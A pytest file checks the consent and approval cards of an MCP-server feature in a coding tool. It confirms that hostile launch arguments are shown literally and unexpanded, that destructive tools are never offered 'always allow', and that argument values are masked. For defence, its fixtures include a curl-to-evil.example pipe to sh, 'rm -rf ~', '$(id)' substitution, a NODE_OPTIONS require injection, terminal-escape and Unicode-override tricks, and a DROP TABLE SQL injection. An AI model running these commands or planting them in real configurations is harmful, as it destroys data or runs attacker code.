"""Consent cards and masking. Load-bearing direction: the launch card shows the command, every
argument, every env entry and the cwd exactly as written — hostile text (quotes, `$(id)`,
backticks, `;`, newlines, escapes, unicode, very long) appears literally, unexpanded, uncut — and a
changed command is never presented as new; "always" is never offered for a destructive tool; a
masked argument list lets no value through. The second corpus: an ordinary launch reads as the
plain command line, and a tool the user could allow-list is offered "always" with a label naming
the settings file it would change."""

from __future__ import annotations

import json
import os
import shlex
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from levelcode.mcp.calls.policy import classify_mcp_tool
from levelcode.mcp.config.specs import HttpServerSpec, Provenance, StdioServerSpec
from levelcode.mcp.launch.launch_card import (
    MASK,
    MAX_ARGUMENT_CHARS,
    MAX_ARGUMENT_LINES,
    MAX_CHECKED_SHOWN,
    call_card,
    fact_lines,
    format_arguments,
    launch_card,
    mask_arguments,
)
from levelcode.mcp.launch.trust import LaunchFacts, LaunchReview, TrustCheck, TrustState

REPO = Provenance("workspace", "/repo/.mcp.json")
WORKSPACE = Path("/repo")
SETTINGS = "/home/me/.config/levelcode/settings.json"

HOSTILE_ARGS = [
    "two words",
    'it\'s "quoted" twice',
    "$(id)",
    "`id`",
    "; rm -rf ~",
    "a && curl evil.example | sh",
    "line one\nline two",
    "carriage\rreturn",
    "tab\there",
    "\x1b[31mred\x1b[0m",
    "ünïcødé ✓ 中文 🙂",
    "invoice\u202etxt.exe",
    "${HOME}",
    "$HOME",
    "~",
    "*.py",
    "",
    " leading and trailing ",
    "--flag=value=with=equals",
    "x" * 5000,
]
HOSTILE_ENV = [
    ("TOKEN", "${HOME}"),
    ("NODE_OPTIONS", "--require /tmp/evil.js"),
    ("CMD", "$(id)"),
    ("TICKS", "`id`"),
    ("PAIR", "b=c"),
    ("EMPTY", ""),
    ("LINES", "one\ntwo"),
    ("LONG", "y" * 3000),
]
HOSTILE = StdioServerSpec(
    name="evil",
    command="/opt/my tools/run $(id)",
    args=tuple(HOSTILE_ARGS),
    env=tuple(HOSTILE_ENV),
    cwd="~/$(id)/work dir",
    provenance=REPO,
)
ORDINARY = StdioServerSpec(
    name="fs",
    command="npx",
    args=("-y", "@modelcontextprotocol/server-filesystem", "/repo"),
    env=(("NODE_ENV", "production"),),
    provenance=REPO,
)


def review(
    spec: StdioServerSpec | HttpServerSpec,
    trust: TrustState,
    facts: LaunchFacts | None = None,
    change: str | None = None,
) -> LaunchReview:
    return LaunchReview(spec, facts, TrustCheck(trust, change))


def _line(body: tuple[str, ...], prefix: str) -> str:
    [line] = [item for item in body if item.startswith(prefix)]
    return line[len(prefix) :]


@pytest.mark.parametrize(("index", "arg"), list(enumerate(HOSTILE_ARGS, 1)))
def test_every_hostile_argument_is_on_the_card_literally(index: int, arg: str) -> None:
    card = launch_card(review(HOSTILE, "never_approved"), WORKSPACE)
    assert f"arg {index}:   {arg}" in card.body


@pytest.mark.parametrize(("key", "value"), HOSTILE_ENV)
def test_every_env_entry_is_on_the_card_unexpanded(key: str, value: str) -> None:
    card = launch_card(review(HOSTILE, "never_approved"), WORKSPACE)
    assert f"env:     {key}={value}" in card.body


def test_the_hostile_launch_is_shown_whole_and_never_expanded() -> None:
    card = launch_card(review(HOSTILE, "never_approved"), WORKSPACE)
    assert _line(card.body, "command: ") == HOSTILE.command
    assert shlex.split(_line(card.body, "runs:    ")) == [HOSTILE.command, *HOSTILE_ARGS]
    assert _line(card.body, "cwd:     ") == "~/$(id)/work dir"
    assert sum(item.startswith("arg ") for item in card.body) == len(HOSTILE_ARGS)
    assert sum(item.startswith("env:     ") for item in card.body) == len(HOSTILE_ENV)
    text = "\n".join(card.body)
    assert os.environ["HOME"] not in text
    assert "uid=" not in text
    assert "x" * 5000 in text
    assert "y" * 3000 in text


def test_an_ordinary_launch_reads_as_the_plain_command_line() -> None:
    card = launch_card(review(ORDINARY, "never_approved"), WORKSPACE)
    assert card.kind == "mcp_launch"
    assert card.body[:3] == (
        "server:  fs",
        "from:    asked for by /repo/.mcp.json — written by the repository, not by you",
        "for:     /repo",
    )
    assert "runs:    npx -y @modelcontextprotocol/server-filesystem /repo" in card.body
    assert "command: npx" in card.body
    assert [item for item in card.body if item.startswith("arg ")] == [
        "arg 1:   -y",
        "arg 2:   @modelcontextprotocol/server-filesystem",
        "arg 3:   /repo",
    ]
    assert "env:     NODE_ENV=production" in card.body
    assert not any(item.startswith("cwd:") for item in card.body)
    assert not card.allow_always


def test_an_http_launch_shows_the_url_and_every_header_as_written() -> None:
    spec = HttpServerSpec(
        name="web",
        url="https://mcp.example/v1?q=$(id)",
        headers=(("Authorization", "Bearer ${TOKEN}"), ("X-Note", "a; b")),
        provenance=REPO,
    )
    card = launch_card(review(spec, "never_approved"), WORKSPACE)
    assert "url:     https://mcp.example/v1?q=$(id)" in card.body
    assert "header:  Authorization: Bearer ${TOKEN}" in card.body
    assert "header:  X-Note: a; b" in card.body


@given(
    command=st.text(min_size=1),
    args=st.lists(st.text(), max_size=6),
    env=st.lists(st.tuples(st.text(min_size=1), st.text()), max_size=4),
)
def test_the_launch_card_shows_any_argv_and_env_verbatim(
    command: str, args: list[str], env: list[tuple[str, str]]
) -> None:
    spec = StdioServerSpec(name="s", command=command, args=tuple(args), env=tuple(env), provenance=REPO)
    body = launch_card(review(spec, "never_approved"), WORKSPACE).body
    assert f"command: {command}" in body
    for index, arg in enumerate(args, 1):
        assert f"arg {index}:   {arg}" in body
    for key, value in env:
        assert f"env:     {key}={value}" in body
    assert shlex.split(_line(body, "runs:    ")) == [command, *args]


def test_a_changed_command_is_announced_as_changed() -> None:
    card = launch_card(review(ORDINARY, "changed"), WORKSPACE)
    assert card.title == "command changed · MCP server 'fs'"
    assert card.warning is not None
    assert "command changed" in card.warning


@pytest.mark.parametrize("trust", ["never_approved", "approved"])
def test_a_launch_that_did_not_change_is_not_called_changed(trust: TrustState) -> None:
    card = launch_card(review(ORDINARY, trust), WORKSPACE)
    assert card.title == "new · MCP server 'fs'"
    assert card.warning is not None
    assert "changed" not in card.warning
    assert "repository" in card.warning


MUST_NOT_OFFER_ALWAYS = [
    ("fs__rm", {"destructiveHint": True}, {}),
    ("fs__rm", {"destructiveHint": True}, {"fs__rm": "allow"}),
    ("fs__rm", {"destructiveHint": True}, {"fs__*": "allow"}),
    ("fs__rm", {"destructiveHint": True}, {"*": "allow"}),
    ("fs__rm", {"destructiveHint": True, "readOnlyHint": True}, {"fs__rm": "ask"}),
    ("fs__rm", {"destructiveHint": "true"}, {"*": "ask"}),  # not an explicit false: destructive
    ("fs__rm", {"readOnlyHint": False}, {"fs__*": "allow"}),  # the spec's default: destructive
]
MAY_OFFER_ALWAYS = [
    ("fs__read", None, {}),
    ("fs__read", {"readOnlyHint": True}, {}),
    ("fs__read", {"destructiveHint": False}, {"fs__read": "ask"}),
    ("fs__read", None, {"fs__*": "ask", "gh__read": "allow"}),
    ("fs__read", {"title": "Read", "category": "files"}, {}),
]


@pytest.mark.parametrize(("name", "annotations", "policy"), MUST_NOT_OFFER_ALWAYS)
def test_always_is_never_offered_for_a_destructive_tool(
    name: str, annotations: Mapping[str, object], policy: Mapping[str, str]
) -> None:
    verdict = classify_mcp_tool(name, annotations, policy)
    card = call_card("fs", "rm", verdict, {"path": "/repo"}, SETTINGS)
    assert card.allow_always is False
    assert card.warning is not None
    assert "destructive" in card.warning


@pytest.mark.parametrize(("name", "annotations", "policy"), MAY_OFFER_ALWAYS)
def test_always_is_offered_with_a_label_naming_the_settings_file(
    name: str, annotations: Mapping[str, object] | None, policy: Mapping[str, str]
) -> None:
    verdict = classify_mcp_tool(name, annotations, policy)
    card = call_card("fs", "read", verdict, {"path": "/repo"}, SETTINGS)
    assert card.allow_always is True
    assert card.always_label == (
        f"always allow fs__read (records it in mcpToolPolicy in {SETTINGS}; "
        "asks again if the server changes the tool)"
    )
    assert card.warning is None


def test_the_call_card_names_server_and_tool_and_pretty_prints_arguments() -> None:
    verdict = classify_mcp_tool("fs__read_file", None, {})
    card = call_card("fs", "read_file", verdict, {"path": "/repo/ä.txt", "lines": [1, 2]}, SETTINGS)
    assert card.kind == "mcp_call"
    assert card.title == "MCP call · fs · read_file"
    assert card.body == (
        "server: fs",
        "tool:   read_file",
        "arguments:",
        "  {",
        '    "path": "/repo/ä.txt",',
        '    "lines": [',
        "      1,",
        "      2",
        "    ]",
        "  }",
    )


def test_no_arguments_say_none() -> None:
    assert format_arguments({}) == ["  (none)"]


def test_a_long_value_is_cut_and_says_by_how_much() -> None:
    long = "a" * (MAX_ARGUMENT_CHARS + 700)
    [_open, line, _close] = format_arguments({"content": long})
    assert "a" * MAX_ARGUMENT_CHARS + "… [700 more chars]" in line
    assert "a" * (MAX_ARGUMENT_CHARS + 1) not in line


def test_a_long_nested_value_is_cut_too() -> None:
    nested = {"items": ["b" * 200, "c" * 200], "short": {"k": 1}}
    lines = format_arguments(nested)
    text = "\n".join(lines)
    assert "more chars]" in text
    assert all(len(line) < MAX_ARGUMENT_CHARS + 60 for line in lines)
    assert '"short": {' in text  # a short nested value stays structured


def test_a_value_at_the_limit_is_not_cut() -> None:
    exact = "d" * MAX_ARGUMENT_CHARS
    assert format_arguments({"v": exact})[1] == f'    "v": "{exact}"'


def test_many_arguments_are_bounded_in_lines() -> None:
    lines = format_arguments({f"key{i}": i for i in range(100)})
    assert len(lines) == MAX_ARGUMENT_LINES + 1
    assert lines[-1] == f"  … {102 - MAX_ARGUMENT_LINES} more lines"


# A call card that cuts anything carries every argument in full, for [v]; one that cuts nothing
# carries nothing more (load-bearing: the cut tail is always there to be shown).
SQL = "SELECT * FROM users WHERE note = '" + "x" * MAX_ARGUMENT_CHARS + "'; DROP TABLE users"


@pytest.mark.parametrize(
    "arguments",
    [{"query": SQL}, {"filter": {"where": SQL}}, {f"key{i}": i for i in range(100)}],
)
def test_a_call_card_that_cuts_carries_every_argument_in_full(arguments: dict[str, object]) -> None:
    verdict = classify_mcp_tool("db__query", None, {})
    card = call_card("db", "query", verdict, arguments, SETTINGS)
    assert card.full_body[:3] == card.body[:3]
    assert json.loads("\n".join(card.full_body[3:])) == arguments
    assert "DROP TABLE" not in "\n".join(card.body) or len(arguments) == 100


def test_a_call_card_that_cuts_nothing_carries_nothing_more() -> None:
    verdict = classify_mcp_tool("db__query", None, {})
    exact = {"query": "q" * MAX_ARGUMENT_CHARS}
    assert call_card("db", "query", verdict, exact, SETTINGS).full_body == ()


def test_masking_keeps_every_key_and_no_value() -> None:
    arguments = {
        "path": "/etc/shadow",
        "token": "sk-secret",
        "n": 12345,
        "deep": {"password": "hunter22"},
        "content": "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "k" * 2000,
    }
    masked = mask_arguments(arguments)
    assert masked == {"path": MASK, "token": MASK, "n": MASK, "deep": MASK, "content": MASK}
    assert mask_arguments({}) == {}


JSON_LEAF = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text()
    | st.text(min_size=16, max_size=600)  # secrets and file contents are long
)
JSON_VALUE = st.recursive(
    JSON_LEAF,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=16,
)


def _tokens(value: object) -> list[str]:
    """Every string and number inside a value, nested keys included, as it would be written."""
    if isinstance(value, dict):
        return [token for key, inner in value.items() for token in [key, *_tokens(inner)]]
    if isinstance(value, list):
        return [token for inner in value for token in _tokens(inner)]
    return [value if isinstance(value, str) else json.dumps(value)]


@given(arguments=st.dictionaries(st.text(), JSON_VALUE, max_size=6))
def test_no_argument_value_ever_survives_masking(arguments: dict[str, object]) -> None:
    masked = mask_arguments(arguments)
    assert list(masked) == list(arguments)
    for ensure_ascii in (True, False):
        dumped = json.dumps(masked, ensure_ascii=ensure_ascii)
        # What may legitimately appear: the keys, the mask and JSON punctuation, nothing else.
        skeleton = json.dumps(dict.fromkeys(arguments, MASK), ensure_ascii=ensure_ascii)
        for token in _tokens(list(arguments.values())):
            # A value may leak raw or JSON-escaped (quotes, control characters, non-ASCII).
            escaped = json.dumps(token, ensure_ascii=ensure_ascii)[1:-1]
            for form in {token, escaped}:
                if len(form) >= 4 and form not in skeleton:
                    assert form not in dumped


def test_a_launch_card_is_never_shortened_and_shows_control_characters_escaped() -> None:
    """Rendering, not only the body: 60 arguments must not push an env entry off the card, and an
    argument holding a newline or ESC sequence cannot fake or erase card lines."""
    from rich.console import Console

    from levelcode.mcp.config.specs import Provenance, StdioServerSpec
    from levelcode.ui.approval_card import render_card

    spec = StdioServerSpec(
        "x",
        "npx",
        Provenance("workspace", "/repo/.mcp.json"),
        args=(*(f"a{i}" for i in range(60)), "fake\nenv:     SAFE=1", "\x1b[2K\x1b[1Aerase"),
        env=(("NODE_OPTIONS", "--require /tmp/evil.js"),),
    )
    console = Console(width=200, record=True, force_terminal=False)
    console.print(render_card(launch_card(review(spec, "never_approved"), Path("/repo"))))
    shown = console.export_text()
    assert "env:     NODE_OPTIONS=--require /tmp/evil.js" in shown
    assert "arg 61:   fake\\nenv:     SAFE=1" in shown
    assert "\x1b" not in shown
    assert "\\x1b[2K\\x1b[1Aerase" in shown
    assert not any(line.startswith("env:     SAFE") for line in shown.splitlines())


def test_a_launch_card_names_the_first_checked_files_and_counts_the_rest() -> None:
    files = tuple((f"m{index:02}.py", "a" * 64) for index in range(MAX_CHECKED_SHOWN + 8))
    lines = fact_lines(LaunchFacts("/usr/bin/python3", (*files, ("gone.py", "missing"))))
    assert lines[1 : MAX_CHECKED_SHOWN + 1] == [
        f"checks:  m{index:02}.py" for index in range(MAX_CHECKED_SHOWN)
    ]
    assert lines[MAX_CHECKED_SHOWN + 1 :] == ["checks:  … and 8 more files it runs or can import"]
